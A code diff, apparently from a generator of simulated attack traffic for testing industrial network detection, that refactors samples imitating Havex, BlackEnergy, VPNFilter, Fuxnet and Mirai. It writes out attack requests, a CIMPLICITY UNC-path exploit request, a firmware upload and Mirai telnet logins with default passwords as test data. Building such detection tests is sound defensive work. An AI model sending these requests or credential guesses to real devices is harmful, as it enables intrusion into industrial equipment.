@@ -59,7 +59,8 @@ def pages(out):
     fetch("havex-task", "/news.php", answer=web.response(200, b"<html><body>No data!<!--havexQUJDREVGhavex--></body></html>"))
     post("blackenergy", "/l/f2.php", b"id=PLANT_1234ABCD&bid=YnVpbGQ3&nm=0&cn=0&num=7")
     fetch("cimplicity", r"/CimWeb/gefebt.exe?\\198.51.100.7\public\xv.bcl")
-    form = b'--p\r\nContent-Disposition: form-data; name="f"; filename="moxa.rom"\r\nContent-Type: application/octet-stream\r\n\r\n' + bytes(64) + b"\r\n--p--\r\n"
+    part = b'Content-Disposition: form-data; name="f"; filename="moxa.rom"\r\nContent-Type: application/octet-stream'
+    form = b"--p\r\n" + part + b"\r\n\r\n" + bytes(64) + b"\r\n--p--\r\n"
     post("converter-firmware", "/upgrade", form, Content_Type="multipart/form-data; boundary=p")
     fetch("vpnfilter-album", "/user/amandaseyfried1/library", "photobucket.com")
     fetch("omron-cgi", "/cgi-bin/ecat.fcgi")
@@ -178,8 +179,10 @@ def ports(out):
     command = b"\x68\x05\x05\x68\x53\xfd\x51\x0f\x0f\xbf\x16"
     out.tcp("fuxnet", 10001, *[(0, command)] * 130, client=laptop, server=rtu)
     out.tcp("mbus-read", 10001, *[(0, command)] * 3, client=laptop, server=rtu)
-    out.tcp("mirai", 23, (1, b"\xff\xfd\x01login: "), (0, b"root\r\n"), (1, b"Password: "), (0, b"12345\r\n"), (1, b"\r\n# "), (0, b"/bin/busybox MIRAI\r\n"), client=laptop, server=rtu)
-    out.tcp("mirai-password", 23, (1, b"\xff\xfd\x01login: "), (0, b"root\r\n"), (1, b"Password: "), (0, b"xc3511\r\n"), client=laptop, server=rtu)
+    prompt = (1, b"\xff\xfd\x01login: "), (0, b"root\r\n"), (1, b"Password: ")
+    shell = (0, b"12345\r\n"), (1, b"\r\n# "), (0, b"/bin/busybox MIRAI\r\n")
+    out.tcp("mirai", 23, *prompt, *shell, client=laptop, server=rtu)
+    out.tcp("mirai-password", 23, *prompt, (0, b"xc3511\r\n"), client=laptop, server=rtu)
 
 
 def controllers(out):
